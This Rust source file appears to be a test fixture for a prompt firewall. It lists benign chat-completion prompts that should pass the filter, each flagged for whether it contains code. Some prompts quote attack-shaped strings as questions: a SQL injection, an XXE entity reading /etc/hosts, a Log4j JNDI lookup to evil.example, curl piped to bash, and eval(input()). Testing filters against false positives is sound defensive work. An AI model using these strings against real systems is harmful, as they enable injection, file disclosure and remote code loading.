//! What people write to models every day: bodies of chat completions that no firewall should refuse.

/// A name, whether there is code in it, and the text of the user's message.
pub(super) const PROMPTS: &[(&str, bool, &str)] = &[
    ("greeting", false, "Hello! How are you today?"),
    ("question", false, "What's the capital of Australia, and why isn't it Sydney?"),
    (
        "letter",
        false,
        "Write a polite letter to my landlord about the broken heating. Don't mention the rent; it's only £950.",
    ),
    (
        "summary",
        false,
        "Summarise the following in three bullet points: Revenue rose 12% to $4.2m; costs fell (mostly staff), and cash on hand is now > $1m.",
    ),
    (
        "translation",
        false,
        "Translate to German: \"I'd like to select a table for two, or one near the window, where it's quiet.\"",
    ),
    ("arithmetic", false, "If 1=1 and 2+2=4, what is 17 * 23 - 4? Show each step; then check: 391-4."),
    ("recipe", false, "Recipe for pancakes w/o eggs & milk, please -- for 4 people, under 30 min."),
    (
        "json-answer",
        false,
        "Answer only with JSON like {\"name\": \"...\", \"age\": 0}. The text: Anna, 34, lives in Bern.",
    ),
    (
        "drop-the-table",
        false,
        "We want to drop the table reservation and select another restaurant from the list where the union meets.",
    ),
    ("french", false, "Rédige un e-mail: l'équipe n'a pas reçu d'accusé; qu'est-ce qu'on fait?"),
    ("japanese", false, "この文章を英語に翻訳してください：「今日はとても暑いですね。」"),
    ("emoji", false, "Make this funnier 😂: \"My cat sleeps 20h/day\" (keep it < 280 chars!)"),
    ("url", false, "What is on https://example.com/docs/index.html?page=2&sort=asc and is it worth reading?"),
    (
        "system-word",
        false,
        "How does the immune system exec its defence? Use cat and dog analogies; echo the key terms at the end.",
    ),
    (
        "markdown",
        false,
        "# Plan\n\n1. Buy milk\n2. *Call* mum\n\n| day | task |\n|---|---|\n| Mon | rest |\n\nTurn this into a paragraph.",
    ),
    (
        "sql-query",
        true,
        "Explain this query:\n\nSELECT u.id, count(*) FROM users u LEFT JOIN orders o ON o.user_id = u.id WHERE u.active = 1 GROUP BY u.id HAVING count(*) > 5 ORDER BY 2 DESC;",
    ),
    ("sql-fix", true, "Why does `SELECT * FROM accounts WHERE name = 'O'Brien' OR 1=1 --` return every row?"),
    (
        "sql-ddl",
        true,
        "Write a migration: CREATE TABLE invoices (id serial primary key, total numeric not null); then DROP TABLE old_invoices;",
    ),
    ("sql-union", true, "Rewrite without UNION: SELECT id FROM a UNION ALL SELECT id FROM b"),
    ("sql-insert", true, "INSERT INTO logs (msg) VALUES ('it''s done'); gives a syntax error near 's. Why?"),
    (
        "html-page",
        true,
        "Make this page accessible:\n<!doctype html><html><head><title>Shop</title></head><body><img src=\"logo.png\"><a href=\"/buy\">Buy</a></body></html>",
    ),
    (
        "html-script",
        true,
        "What does <script>document.getElementById('x').innerHTML = location.hash</script> do, and is it safe?",
    ),
    ("html-handler", true, "Replace onclick=\"alert('hi')\" on my <button> by addEventListener."),
    (
        "react",
        true,
        "Fix: export default function App() { const [n, setN] = useState(0); return <button onClick={() => setN(n + 1)}>{n}</button>; }",
    ),
    (
        "css",
        true,
        "Centre this: .box { position: absolute; background: url(\"/img/a.png\"); width: calc(100% - 2rem); }",
    ),
    ("shell-list", true, "What does `find . -name '*.log' -mtime +7 -exec rm {} \\;` do?"),
    (
        "shell-pipe",
        true,
        "Shorten: cat access.log | grep 404 | awk '{print $7}' | sort | uniq -c | sort -rn | head",
    ),
    (
        "shell-curl",
        true,
        "curl -s https://example.com/install.sh | bash fails with permission denied; what should I check?",
    ),
    ("shell-passwd", true, "Why can every user read /etc/passwd but not /etc/shadow?"),
    ("shell-env", true, "export PATH=$PATH:/usr/local/bin; echo $HOME; which python3 -- explain each"),
    (
        "dockerfile",
        true,
        "Review:\nFROM python:3.12-slim\nRUN apt-get update && apt-get install -y curl && rm -rf /var/lib/apt/lists/*\nCMD [\"python\", \"-m\", \"http.server\"]",
    ),
    (
        "python",
        true,
        "def load(path):\n    import os, subprocess\n    return subprocess.run(['ls', '-l', path], capture_output=True).stdout.decode()\n\nAdd type hints.",
    ),
    ("python-eval", true, "Is eval(input()) dangerous in Python? What about os.system('ls')?"),
    (
        "javascript",
        true,
        "const fs = require('fs'); fs.readFileSync('./a.json', 'utf8'); // make it async with await import('node:fs/promises')",
    ),
    (
        "node-exec",
        true,
        "Use child_process.exec or spawn? const { exec } = require('child_process'); exec('git status', cb)",
    ),
    (
        "php",
        true,
        "Convert to PDO: <?php $r = mysql_query(\"SELECT * FROM t WHERE id=\" . $_GET['id']); while ($row = mysql_fetch_assoc($r)) { echo $row['name']; } ?>",
    ),
    (
        "java",
        true,
        "Exception in thread \"main\" java.lang.NullPointerException at com.example.Main.main(Main.java:14) -- what now?",
    ),
    ("java-runtime", true, "Runtime.getRuntime().exec(\"ls\") hangs. Should I use java.lang.ProcessBuilder?"),
    (
        "rust",
        true,
        "fn main() { let v: Vec<_> = (1..=10).filter(|n| n % 2 == 0).collect(); println!(\"{v:?}\"); } // use fold instead",
    ),
    (
        "go",
        true,
        "func main() { defer f.Close(); if err != nil { log.Fatalf(\"open: %v\", err) } } -- what is wrong with the order?",
    ),
    ("c", true, "char buf[8]; strcpy(buf, argv[1]); printf(buf); -- list the bugs"),
    ("regex", true, "Explain ^(?:[a-z0-9!#$%&'*+/=?^_`{|}~-]+(?:\\.[a-z0-9]+)*)@[a-z]+\\.com$ step by step"),
    (
        "yaml",
        true,
        "apiVersion: v1\nkind: Secret\nmetadata: {name: db}\nstringData: {password: \"${DB_PASSWORD}\"}\n\nWhat is missing?",
    ),
    (
        "xml",
        true,
        "Parse <?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY e SYSTEM \"file:///etc/hosts\">]><r>&e;</r> safely in Python",
    ),
    ("powershell", true, "Get-ChildItem -Recurse | Where-Object { $_.Length -gt 1MB } | Remove-Item -WhatIf"),
    ("git", true, "git rebase -i HEAD~3 && git push --force-with-lease; how do I undo it?"),
    (
        "diff",
        true,
        "diff --git a/x.py b/x.py\n--- a/x.py\n+++ b/x.py\n@@ -1,2 +1,2 @@\n-print 'a'\n+print('a')\n\nWrite a commit message.",
    ),
    ("log4j", true, "What was so bad about ${jndi:ldap://evil.example/a} in log messages?"),
    ("path", true, "require('../../../lib/util') vs path aliases in tsconfig.json: which is better?"),
    (
        "latex",
        true,
        "\\frac{\\partial u}{\\partial t} = \\alpha \\nabla^2 u -- write it for 1D and discretise; use \\sum_{i=0}^{n}",
    ),
];
